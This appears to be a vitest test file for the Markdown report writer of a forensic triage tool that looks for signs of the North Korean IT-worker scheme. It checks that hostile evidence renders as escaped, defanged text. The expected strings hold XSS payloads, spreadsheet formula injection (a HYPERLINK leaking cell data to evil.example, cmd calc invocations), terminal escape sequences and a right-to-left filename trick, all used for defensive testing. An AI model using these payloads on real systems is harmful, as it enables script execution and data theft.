// The Markdown report: no raw HTML, pipes/newlines escaped in table cells, inline syntax escaped,
// URLs defanged, same sections as the HTML report (reference ecosystem-and-style.md §5.2).
import {beforeAll, describe, expect, it} from 'vitest'

import {writeMarkdown} from '../../src/report/markdown.js'
import {buildReport, render} from './sample.js'

let md = ''
beforeAll(async () => {
  md = await render(writeMarkdown, buildReport())
})

/** GFM cell split: a pipe preceded by an odd number of backslashes is escaped. */
function cells(line: string): string[] {
  const out: string[] = []
  let cur = ''
  let bs = 0
  for (const ch of line.slice(1, -1)) {
    if (ch === '|' && bs % 2 === 0) {
      out.push(cur.trim())
      cur = ''
    } else cur += ch
    bs = ch === '\\' ? bs + 1 : 0
  }
  out.push(cur.trim())
  return out
}

describe('Markdown: hostile evidence is inert text', () => {
  it('contains no raw HTML and no live URL', () => {
    expect(md).not.toContain('<')
    expect(md).not.toContain('>')
    expect(md).not.toMatch(/https?:\/\//i)
    expect(md).not.toMatch(/javascript:/i)
    expect(md).not.toMatch(/www\./i)
    // eslint-disable-next-line no-control-regex
    expect(md.replace(/\n/g, '')).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/)
  })
  it('escapes each payload', () => {
    expect(md).toContain('#### ADDS POINTS PAY-01: Payment platform used by IT workers &lt;script&gt;document\\[.\\]title=\'PWNED\';window.\\_\\_pwned=1&lt;/script&gt;\n')
    expect(md).toContain('**title**=&lt;img src=x onerror=alert(1)&gt;; **url**=javascript\\[:\\]alert(1); **user**=bob')
    expect(md).toContain('**install\\_location**=&lt;/style&gt;&lt;style&gt;body{background:url(hxxp://127\\[.\\]0\\[.\\]0\\[.\\]1:9/css)}&lt;/style&gt;;')
    expect(md).toContain('**note**=&lt;/textarea&gt;&lt;svg onload="document\\[.\\]title=\'PWNED\'"&gt;;')
    expect(md).toContain('**remote\\_alias**=\\=HYPERLINK("hxxp://evil\\[.\\]example/?leak="&amp;A1,"click me");')
    expect(md).toContain("**file**=\\+cmd\\|' /C calc'!A0; **label**=@SUM(1+1)\\*cmd\\|' /C calc'!A0; **size\\_note**=\\-2+3; **tab**=␉=1+1;")
    expect(md).toContain('**md**=\\# heading \\*bold\\* \\_it\\_ \\`code\\` \\[link\\](hxxp://evil\\[.\\]example) !\\[x\\](hxxp://evil\\[.\\]example/x.png) \\~\\~s\\~\\~ \\$x\\$ \\\\;')
    expect(md).toContain('raw: transfer ␛\\[31mRED␛\\[0m␛\\]0;owned␇ nul␀byte')
    expect(md).toContain('to invoice⟨U+202E⟩gpj\\[.\\]exe')
    expect(md).toContain('Evidence: /evidence/laptop-farm-01 &lt;img src=x onerror=alert(1)&gt;\n')
  })
  it('escapes pipes and flattens newlines in table cells', () => {
    expect(md).toContain('| File transfer col\\|with\\|pipes␊and a second line␍␊and a third · **bytes**=\\-5;')
    expect(md).toContain('  - &lt;img src=hxxp://127\\[.\\]0\\[.\\]0\\[.\\]1:9/img onerror="document\\[.\\]body\\[.\\]setAttribute(\'data-pwned\',\'img\')"&gt;: col\\|with\\|pipes␊and a second line␍␊and a third: javascript\\[:\\]alert(1)\n')
    // every table row has as many cells as its header
    const lines = md.split('\n')
    let width = 0
    let rows = 0
    for (let i = 0; i < lines.length; i++) {
      const l = lines[i]!
      if (!l.startsWith('|')) {
        width = 0
        continue
      }
      expect(l.endsWith(' |') || l.endsWith('|'), l.slice(0, 80)).toBe(true)
      if (width === 0) width = cells(l).length
      else expect(cells(l).length, l.slice(0, 80)).toBe(width)
      rows++
    }
    // verdicts 2+2, case 1 key facts (sessions 2+1, identifiers 2+3, VPN 2+1, payments 2+2), heatmap 2+7,
    // timeline 2+8, inventory 2+4, suppressions 2+1, case 2 key facts (sessions 2+1, identifiers 2+2),
    // timeline 2+1 and inventory 2+1, links 2+1, parser kinds 2+7
    expect(rows).toBe(4 + 3 + 5 + 3 + 4 + 9 + 10 + 6 + 3 + 3 + 4 + 3 + 3 + 3 + 9)
  })
  it('shows defanged URLs', () => {
    expect(md).toContain('Downloaded hxxps://drive\\[.\\]google\\[.\\]com/uc?id=1x&amp;export=download to invoice')
    expect(md).toContain('  - FBI: North Korean IT workers &lt;img src=x onerror=alert(1)&gt; (grade A): hxxps://www\\[.\\]ic3\\[.\\]gov/PSA/2024/PSA240516\n')
    expect(md).toContain('  - url = hxxps://www\\[.\\]payoneer\\[.\\]com/login?next=/withdraw · 1 event, e.g. c1-0003\n')
  })
  it('cuts long values with a marker', () => {
    expect(md).toContain('ad\\[.\\]roster\\[.\\]entry=' + 'A'.repeat(1984) + '… \\[cut: 38,017 more characters; full value in the JSON/JSONL/CSV export\\] ·')
    expect(md).not.toContain('END-OF-LONG')
  })
})

describe('Markdown: content', () => {
  it('has the same sections as the HTML report', () => {
    const heads = md.split('\n').filter((l) => /^#{1,3} /.test(l))
    expect(heads).toEqual([
      '# Triage report: signs of the North Korean remote IT-worker scheme', '## Verdicts',
      '## Case 1: laptop-farm-01', '### Executive summary', '### Key facts', '### Findings (3)', '### Activity by hour and weekday in America/New\\_York',
      '### Timeline of relevant events (8)', '### Artifact inventory (4)',
      '## Case 2: laptop-farm-02', '### Executive summary', '### Key facts', '### Findings (1)', '### Activity by hour and weekday',
      '### Timeline of relevant events (1)', '### Artifact inventory (1)',
      '## Cross-case links', '## Method and limitations', '### What was and was not evaluable', '### Time conventions',
    ])
  })
  it('verdicts, findings, timeline, heatmap, links, inventory and method carry the data', () => {
    expect(md).toContain('| Case 1: laptop-farm-01 | **high** | 82 | 3 | 9 | 4 |\n')
    expect(md).toContain('**Level HIGH: a combination of indicators strongly consistent with the reported North Korean IT-worker scheme (score 82 of 100).**')
    expect(md).toContain('Score 82/100 · categories: payment, remote-access, vpn-proxy\n\n#### How the level was computed\n\n- Incoming AnyDesk sessions combined with Astrill VPN and Payoneer use\n')
    expect(md).toContain('- Supporting events: c1-0002, c1-0006\n')
    expect(md).toContain('| Fri | 5 | 6 | 7 | 8 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 0 | 6 | 7 | 8 |\n')
    expect(md).toContain('| c1-0001 | 2024-03-01 (date only) | program.installed | Installed: Astrill VPN 3.9.0 (Astrill Systems Corp) · ')
    // an install date is a date: no invented midnight, no zone basis (issue #14 point 7)
    expect(md).toContain('2024-03-01 to 2024-03-01')
    expect(md).not.toContain('2024-03-01T00:00:00')
    expect(md).not.toContain('2024-03-01 00:00:00')
    expect(md).toContain('Not shown here: 1 other event (browser.visit: 1). The full timeline is in the JSONL or CSV export')
    expect(md).toContain('| ip | 203.0.113.7 | laptop-farm-01, laptop-farm-02 | c1-0002, c2-0001 |\n')
    expect(md).toContain(`| C/Users/bob/AppData/Roaming/AnyDesk/ad.trace (C:/Users/bob/AppData/Roaming/AnyDesk/ad.trace) | anydesk.trace | 18,432 | ${'a'.repeat(64)} | parsed | 4 |   |\n`)
    // the tool's own parser title is not defanged; evidence naming a domain still is
    expect(md).toContain('| firefox.places | Firefox places.sqlite | not found in the evidence |\n')
    expect(md).toContain('www\\[.\\]payoneer\\[.\\]com')
    expect(md).not.toContain('www.payoneer.com')
    expect(md).toContain('| chromium.history | Chromium history | found: 1 artifact (1 partial), 4 events |\n')
    expect(md).toContain('Command line: dprk-triage scan /evidence/laptop-farm-01 /evidence/laptop-farm-02.zip --claimed-tz America/New\\_York --out "&lt;script&gt;')
    expect(md).toContain('Indicator pack **dprk-itw** version **2024.06**, 42 indicators; loaded: builtin:dprk-itw.yaml.\n')
    expect(md).toContain('- assumed-utc: the source gives no zone and no --host-tz was given; the time was read as UTC\n')
  })
})

describe('Markdown: determinism', () => {
  it('two renders are byte-identical; generatedAt changes one line only', async () => {
    expect(await render(writeMarkdown, buildReport())).toBe(md)
    const other = (await render(writeMarkdown, buildReport(9, {generatedAt: '2030-01-02T03:04:05.000Z'}))).split('\n')
    const a = md.split('\n')
    expect(a.filter((l, i) => l !== other[i])).toEqual(['Generated at 2024-06-01T12:00:00.000000Z'])
    const none = await render(writeMarkdown, buildReport(9, {generatedAt: null}))
    expect(none).not.toContain('Generated at')
    expect(none).toBe(md.replace('Generated at 2024-06-01T12:00:00.000000Z\n\n', ''))
  })
})
